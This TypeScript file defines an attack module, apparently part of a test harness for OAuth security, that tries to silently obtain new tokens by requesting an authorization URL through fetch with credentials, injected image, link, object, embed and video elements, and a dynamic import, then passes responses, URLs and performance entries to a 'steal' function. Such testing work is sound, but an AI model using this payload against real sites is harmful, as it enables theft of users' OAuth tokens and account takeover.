import { attack } from "../attack.js";

export default attack({
  name: "silent flow by fetch, image, script, object and prefetch",
  threat: "acquisition of new tokens",
  target: "any",
  async payload(it) {
    const url = it.authorizationUrl();
    for (const init of [
      { mode: "cors", credentials: "include" },
      { mode: "no-cors", credentials: "include" },
      { mode: "no-cors", credentials: "include", redirect: "manual" },
      { mode: "same-origin", credentials: "include" },
    ] as RequestInit[]) {
      const response = await fetch(url, init).catch((error: unknown) => String(error));
      it.steal(typeof response === "string" ? response : [response.url, await response.text()]);
    }
    const elements = [
      Object.assign(new Image(), { src: url }),
      Object.assign(document.createElement("link"), { rel: "prefetch", href: url }),
      Object.assign(document.createElement("link"), { rel: "stylesheet", href: url }),
      Object.assign(document.createElement("object"), { data: url }),
      Object.assign(document.createElement("embed"), { src: url }),
      Object.assign(document.createElement("video"), { src: url }),
    ];
    document.body.append(...elements);
    await import(url).catch((error: unknown) => it.steal(String(error)));
    await it.pause(1_500);
    for (const element of elements) {
      try {
        const { contentDocument } = element as HTMLObjectElement;
        it.steal(contentDocument?.URL);
      } catch {
        // Of another origin.
      }
    }
    it.steal(performance.getEntries());
  },
});
